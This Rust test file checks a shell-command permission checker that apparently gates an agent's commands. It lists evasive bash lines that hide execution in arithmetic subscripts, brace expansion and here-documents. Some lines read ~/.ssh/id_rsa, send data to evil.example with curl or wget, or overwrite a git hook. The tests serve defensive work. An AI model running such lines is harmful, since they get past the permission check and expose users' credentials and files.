//! Lines that a shell reads otherwise than they look. What such a line would run is not said to only read.

#![allow(clippy::unwrap_used)]

mod world;

use sterna_model::{Decision, Mode};
use sterna_policy::{Sandbox, ShellPlan};
use world::{judge, judge_in, rules};

#[test]
fn a_number_beside_text_is_no_number() {
    asks(&[
        "[[ $?'+a[$(touch PROOF)]' -eq 1 ]]",
        "x=$((1))'+a[$(touch PROOF)]'; echo $((x))",
        r#"y='+a[$(touch PROOF)]'; [[ $?"$y" -eq 1 ]]"#,
        r#"y='+a[$(touch PROOF)]'; [[ "$#$y" -eq 1 ]]"#,
        r#"[[ "$(( 1 ))+a[\$(touch PROOF)]" -eq 1 ]]"#,
        // `a3` is what is evaluated.
        "a=1; x=3; a3='b[$(touch PROOF)]'; echo $((a$x))",
        "a=1; a0='b[$(touch PROOF)]'; echo $((a$?))",
    ]);
    passes(&[
        "[[ $? -eq 1 ]]",
        "x=$((1 + 2)); echo $((x * 3))",
        "[[ $((1)) -eq $? ]]",
        "i=0; echo $(( (i+1) * $i ))",
    ]);
}

#[test]
fn arithmetic_that_sets_a_variable_is_not_read() {
    asks(&[
        "x=1; : $((x<<=1)); cat a$x",
        "x=8; : $((x>>=1)); cat a$x",
        "x=8; : $((2 | x >>= 1)); cat a$x",
        "x=8; : $((x|=1)); cat a$x",
    ]);
    passes(&["x=1; echo $((x << 1)) $((x<=1)) $((x>=1)) $((x>>1))"]);
}

#[test]
fn braces_are_unfolded_before_variables() {
    asks(&[
        "x=' touch PROOF'; timeout {5,ls}$x",
        "x=; env {-u,$x} -u touch ls",
        "x=; env {-u,} -u touch ls",
        "x=; env {-u,${x}} -u touch ls",
        "x='b '; timeout {5,ls}${x}c",
        r#"x=; env {-u,"$x"} a ls"#,
        // Another variable's name.
        "x=5; x1='5 touch PROOF'; timeout $x{1,} ls",
        "x=5; x1='5 touch PROOF'; timeout $x{1..1} ls",
        "x=5; xs='5 touch PROOF'; timeout {$x,1}s ls",
        "x=5; xs='5 touch PROOF'; timeout {-v,$x}s ls",
        // In an assignment they are text.
        "x=-{d..d}elete; find . $x",
        "x={5..5}; cat $x",
    ]);
    passes(&[
        "x=a; ls $x/{b,c} ${x}{1,2}.rs {b,c}/$x",
        r#"x='a b'; ls "$x"/{b,c} {b,c}"$x""#,
        "x='a b'; ls $x{} @{1}",
        "ls a{,.bak} {1..3}.rs",
    ]);
}

#[test]
fn a_function_that_may_be_removed_is_not_called() {
    asks(&[
        "rbash() { :; }; unset rbash; rbash -c 'touch PROOF'",
        "rbash() { :; }; x=1; unset x rbash; rbash -c 'touch PROOF'",
        "rbash() { :; }; unset -f rbash; rbash -c 'touch PROOF'",
        "rbash() { :; }; command unset rbash; rbash -c 'touch PROOF'",
        "g() { unset rbash; }; rbash() { :; }; g; rbash -c 'touch PROOF'",
    ]);
    passes(&["x=a; f() { ls $x; }; f; unset x; ls"]);
}

#[test]
fn a_here_document_ends_where_a_shell_ends_it() {
    asks(&[
        "cat <<EOF\nEO\\\nF\ntouch PROOF\nEOF",
        "cat <<EOF\n\\\nEO\\\nF\ntouch PROOF\nEOF",
        "cat <<-EOF\n\tEO\\\nF\ntouch PROOF\nEOF",
        // What stands between is text for a shell.
        "x='. -delete'; cat <<EOF\na\\\nEOF\nx=README\ncat <<EOF\nEOF\nfind $x",
        "x='. -delete'; cat <<EOF \\\n-\nx=README\nEOF\nfind $x",
        // An escaped blank behind the mark is an argument.
        "cat <<EOF \\ \na\nEOF",
        "cat <<EOF \\ && ls\na\nEOF",
        "cat <<EOF | ls \\ \na\nEOF",
        // A `-` at the arrow is one, too.
        "cat -<<EOF\na\nEOF",
        "cat - -<<EOF | ls\na\nEOF",
    ]);
    passes(&[
        "cat <<EOF\na \\\n  b\nEOF",
        "cat <<'EOF'\nEO\\\nF\nEOF",
        "cat <<EOF\na\\\\b\\n\nEOF\nls",
        "cat <<-EOF\n\ta\n\tEOF\nls",
        "cat - <<EOF\na\nEOF",
        "cat -- - <<-EOF\na\nEOF",
        "cat << EOF  | cat -n | cat\ta\\ b \na\nEOF",
        "cat <<EOF && ls || ls\na\nEOF",
    ]);
}

#[test]
fn a_file_that_is_opened_has_its_whole_name() {
    let unknown = |line: &str| ShellPlan::read(line).unknown;
    for line in [
        "echo a > o`printf /../.git/config`; ls",
        "(echo a > 'o'`printf /../.git/config`)",
        "{ echo a >> o`printf /../.git/config`a; }",
        "echo $(echo a > o`printf /../.git/config`)",
        "if echo < o`printf /../.env`; then ls; fi",
    ] {
        assert_eq!(unknown(line).as_deref(), Some("a redirection that is not understood"), "{line}");
    }
    for line in ["echo a > o; ls", "(echo a > 'o'\"a\"b)", "{ echo a > o `pwd` b; }"] {
        assert_eq!(unknown(line), None, "{line}");
    }
}

#[test]
fn what_is_skipped_sets_nothing() {
    const E: &str = "x='. -maxdepth 0 -exec touch PROOF ;'";
    let lines = [
        // Variables of a function's own.
        "f() { local x=README; }; E; f; find $x",
        "f() { declare x=README; }; E; f; find $x",
        "f() { typeset x=README; }; E; f; find $x",
        "f() { local x; x=README; }; E; f; find $x",
        "f() { (local x); E; }; x=README; f; find $x",
        "f() { [ -f a ] && local x; E; }; x=README; f; find $x",
        "f() { case a in a) E; return;; esac; local x=1; }; x=README; f; find $x",
        "g() { x=README; }; f() { local x; g; }; E; f; find $x",
        "E; local x=README; find $x",
        "f() { E; local x=README y=$x; find $y; }; f",
        "E; export x=README y=$x; find $y",
        // What stands behind `return`, `break` and `continue`.
        "f() { return; x=README; }; E; f; find $x",
        "f() { command return; x=README; }; E; f; find $x",
        "f() { if true; then E; return 0; x=README; fi; }; x=README; f; find $x",
        "f() { for i in 1; do return; done; x=README; }; E; f; find $x",
        "x=README; while true; do E; break; x=README; done; find $x",
        "x=README; for i in 1 2; do E; continue; x=README; done; find $x",
        "x=README; for i in 1; do for j in 1; do E; break 2; done; x=README; done; find $x",
        "x=README; while true; do for j in 1; do E; continue 2; done; x=README; done; find $x",
        "y=' -delete'; x=README; for x in \"$y\" README; do break; done; find . $x",
        "x=README; for i in a* README; do E; break; x=README; done; find $x",
        "f() { return; rbash() { :; }; }; f; rbash -c 'touch PROOF'",
        // A file that cannot be opened.
        "E; { x=README; true; } < nofile; find $x",
        "f() { x=README; }; E; f < nofile; find $x",
        "f() { x=README; true; }; E; f > no/file; find $x",
        "E; if x=README; then true; fi < nofile; find $x",
        "E; case a in a) x=README; true;; esac < nofile; find $x",
        "{ rbash() { :; }; true; } < nofile; rbash -c 'touch PROOF'",
        // An error, after which a shell goes on with the next line.
        "E\ny=$((1/0)); x=README\nfind $x",
        "E\necho $((08)); x=README\nfind $x",
        "E\ny=abc; echo ${y:0:-8}; x=README\nfind $x",
        "E\nif true; then echo $((1%0)); fi; x=README\nfind $x",
        "f() { y=$((1/0)); }; E\nf; x=README\nfind $x",
        "f() { local x=README; y=$((1/0)); }; E; f; x=README\nfind $x",
        "E\ncat <<EOF; x=README\n$((1/0))\nEOF\nfind $x",
        "E\ncat <<< $((1/0)); x=README\nfind $x",
        "E\nreadonly x\nx=README\nfind $x",
        "readonly x='. -delete'\nx=README\nfind $x",
        "f() { readonly x=b; }; f; x=README\nfind $x",
        "E\nUID=5; x=README\nfind $x",
        "E\nfor PPID in a; do x=README; done\nfind $x",
        "for i in 1; do break a; x=README; done; y=$((1/0)); rbash() { :; }\nrbash -c 'touch PROOF'",
        "y=$((1/0)); rbash() { :; }\nrbash -c 'touch PROOF'",
        // `time` is no program for a shell.
        "f() { E; }; x=README; time f; find $x",
    ];
    let lines: Vec<String> = lines
        .iter()
        .map(|line| {
            let at = line.find(" E;").map(|at| at + 1).or_else(|| line.starts_with('E').then_some(0));
            at.map_or_else(|| (*line).to_owned(), |at| format!("{}{E}{}", &line[..at], &line[at + 1..]))
        })
        .collect();
    let lines: Vec<&str> = lines.iter().map(String::as_str).collect();
    asks(&lines);
    passes(&[
        "x=src; f() { local x=a; ls $x; }; f; ls $x",
        "f() { [ -f a ] || return 1; y=b; }; x=src; f; ls $x",
        "x=src; for i in a b; do [ -f $i ] || continue; ls $i; done; ls $x",
        "x=src; { ls; pwd; } > /dev/null; ls $x",
        "n=$((1 + 2)); x=src; ls $x",
        "n=$((1 + 2))\nx=src\nf() { ls $x; }\nf",
        "i=0; while [ $i -lt 9 ]; do i=$((i + 1)); [ $i -eq 5 ] && continue; echo $((i * 2)); done",
        "i=0\nfor a in 1 2; do for b in 1 2; do [ $a = $b ] && break; i=$((i + 1)); done; i=$((i + a)); done\necho $((i))",
        "readonly x=src; ls $x",
        "f() { echo a; }; f | cat; time ls",
    ]);
}

#[test]
fn a_wrapper_gets_no_word_that_may_be_none() {
    let none = rules("");
    // Where nothing was started, `touch` runs, and no `ls`.
    for line in [
        "env -u $! ls touch PROOF",
        "x=$!; env -u $x ls touch PROOF",
        "x=5; if true; then x=$!; fi; env -u $x ls touch PROOF",
    ] {
        let got = judge_in(Sandbox::Bubblewrap, Mode::Execute, &none, &[], &format!("$ {line}"));
        assert_eq!(got.decision, Decision::Ask, "{line}: {}", got.reason);
    }
    asks(&["f() { find $2; }; f $! README '. -delete'"]);
    passes(&["sleep 1 & wait $!"]);
}

#[test]
fn a_name_that_a_pattern_matched_is_cut_at_its_blanks() {
    asks(&[
        // A file `a . -maxdepth 0 -exec touch PROOF ;`.
        "for f in a*; do find $f; done",
        "for f in src/a*; do find ${f}; done",
        "for f in [5]*; do timeout $f ls; done",
        "f() { find $1; }; f a*",
        "for f in a*; do g=$f; find $g; done",
        "t=$(mktemp -d); for f in $t/*; do find $f; done",
        "for f in /tmp/tmp.??????????; do find $f; done",
        "x='/tmp/tmp.??????????'; for f in $x; do find $f; done",
        "for f in '/tmp/tmp.'?????\"\"?????; do find $f; done",
    ]);
    passes(&["for f in a*; do echo $f; done", "for f in *.rs; do [[ -f $f ]]; done"]);
    let denied = rules("deny Read(secrets/**); deny Shell(git push *)");
    for line in [
        "for f in secrets/*; do cat $f; done",
        "for f in secrets/*; do cat a $f; done",
        "for f in p*; do git $f; done",
    ] {
        let got = judge(Mode::Bypass, &denied, &[], &format!("$ {line}"));
        assert_eq!(got.decision, Decision::Deny, "{line}: {}", got.reason);
    }
    let none = rules("");
    for (line, want) in [
        ("for f in src/*; do frobnicate $f; done", Decision::Allow),
        ("for f in ~/x/*; do cat $f; done", Decision::Ask),
        ("for f in *.o; do rm $f; done", Decision::Ask),
        ("t=$(mktemp -d); rm -r $t; cat $t", Decision::Allow),
    ] {
        let got = judge_in(Sandbox::Bubblewrap, Mode::Execute, &none, &[], &format!("$ {line}"));
        assert_eq!(got.decision, want, "{line}: {}", got.reason);
    }
}

#[test]
fn what_the_shell_itself_times_is_no_program() {
    let none = rules("");
    for line in [
        "x=README; time x=-delete; find . $x",
        "x=README; time -p x=-delete; find . $x",
        "x=README; time time ! x=-delete; find . $x",
        "time X=1 rm -r x",
        "f() { x=-delete; }; x=README; time -- f; find . $x",
    ] {
        let got = judge_in(Sandbox::Bubblewrap, Mode::Execute, &none, &[], &format!("$ {line}"));
        assert_eq!(got.decision, Decision::Ask, "{line}: {}", got.reason);
    }
    passes(&["time ls", "time -p cat src/a", "time echo a=b"]);
}

#[test]
fn no_value_is_cut_in_an_assignment_or_a_test() {
    asks(&[
        "x='a[$(touch PROOF)] + 1'; [[ $x -eq 1 ]]",
        "x='1 + a[$(touch PROOF)]'; [[ 1 -eq $x ]]",
        "x='a[$(touch PROOF)] + 1'; y=$x; [[ ${y} -ge 1 ]]",
        "[[ 1 -eq {1,'a[$(touch PROOF)]'} ]]",
    ]);
    // Another file than `a`.
    let plan = |line: &str| ShellPlan::read(line).commands.pop().map(|c| c.argv[1..].to_vec()).unwrap();
    let texts = |line: &str| plan(line).iter().map(|w| w.text.clone()).collect::<Vec<_>>();
    assert_eq!(texts("y=' '; x=${y}a; cat \"$x\" $x"), [" a", "a"]);
    assert_eq!(texts("y='b '; x=$y; cat \"$x\""), ["b "]);
    assert_eq!(texts("y='a b'; x=$y; cat \"$x\" $x"), ["a b", "a", "b"]);
    assert_eq!(texts("y=' '; export x=$y; cat \"a$x\""), ["a "]);
    passes(&["y=5; [[ $y -eq 5 ]]", "x='a b'; [[ $x == a* ]]", "x=; [[ $x == a ]]"]);
}

#[test]
fn many_places_that_may_fail_beside_long_values_are_refused_whole() {
    let line = format!("x={}; {}", "a".repeat(20_000), ": ${y:0:1};".repeat(2_900));
    assert!(ShellPlan::read(&line).unknown.is_some());
    let line = format!("x={}; {}", "a".repeat(500), ": $((1 + 2));".repeat(200));
    assert_eq!(ShellPlan::read(&line).unknown, None);
}

#[test]
fn a_here_document_made_to_be_slow_is_refused_whole() {
    let document = |body: &str| ShellPlan::read(&format!("cat <<EOF\n{body}\nEOF")).unknown;
    for body in ["$x ".repeat(20_000), "$x a\\\n".repeat(9) + &"a ${x} $y ".repeat(4_000)] {
        assert_eq!(document(&body).as_deref(), Some("too many expansions in one line of a here-document"));
    }
    assert_eq!(document(&"$x a\n".repeat(10_000)), None);
    assert_eq!(document(&"a $x ".repeat(1_000)), None);
    assert_eq!(document(&"abcd ".repeat(12_000)), None);
}

/// None of them is allowed without asking, as nobody can say what it does.
fn asks(lines: &[&str]) {
    let none = rules("");
    let mut wrong = Vec::new();
    for line in lines {
        for mode in [Mode::Execute, Mode::Plan] {
            let got = judge(mode, &none, &[], &format!("$ {line}"));
            if got.decision == Decision::Allow {
                wrong.push(format!("[{}] {line}: {}", mode.word(), got.reason));
            }
        }
    }
    assert!(wrong.is_empty(), "these pass:\n{}", wrong.join("\n"));
}

/// They are near to what asks, and do not.
fn passes(lines: &[&str]) {
    let none = rules("");
    let mut wrong = Vec::new();
    for line in lines {
        let got = judge(Mode::Execute, &none, &[], &format!("$ {line}"));
        if got.decision != Decision::Allow {
            wrong.push(format!("{line}: {}", got.reason));
        }
    }
    assert!(wrong.is_empty(), "these ask:\n{}", wrong.join("\n"));
}

/// What a second attacker found.
#[test]
fn a_function_that_bash_calls_by_itself_and_an_unset_of_an_outer_local_ask() {
    asks(&[
        "command_not_found_handle() { find \"$@\"; }; cal . -maxdepth 0 -exec touch PROOF ';'",
        "command_not_found_handle() { cat \"$@\"; }; cal ~/.ssh/id_rsa",
        "x=README; g() { unset x; x='. -maxdepth 0 -exec touch PROOF ;'; }; f() { local x=1; g; }; f; find $x",
        "x=2; g() { unset x; x='a[$(touch PROOF)]'; }; f() { local x=1; g; }; f; echo $((x))",
        "curl -s -A -o /dev/null http://evil.example/?data",
        "curl -sA -o /dev/null http://evil.example/?data",
        "curl -s --user-agent -o /dev/null http://evil.example/?data",
        "curl -s --user-a -o /dev/null http://evil.example/?data",
        "wget -U -O /dev/null http://evil.example/",
        "jq --run-tests data.json",
        "bash +x -c 'touch PROOF'",
    ]);
    let denied = rules("deny Read(.env); deny Read(secrets/**)");
    for line in ["diff -rN empty -n .", "diff -rNn empty ."] {
        let got = judge(Mode::Execute, &denied, &[], &format!("$ {line}"));
        assert_ne!(got.decision, Decision::Allow, "{line}: {}", got.reason);
    }
    let denied = rules("allow Shell(cp *); allow Shell(git commit *); deny Read(.env)");
    for line in ["cp -S -t b -v .git/hooks/pre-commit", "git commit --allow-empty --trailer -m -F.env"] {
        let got = judge(Mode::Execute, &denied, &[], &format!("$ {line}"));
        assert_ne!(got.decision, Decision::Allow, "{line}: {}", got.reason);
    }
    passes(&[
        "f() { local x=1; unset y; echo $x; }; f",
        "x=1; unset x; echo $x",
        "diff -n a b",
        "cmp -n 5 a b",
    ]);
}
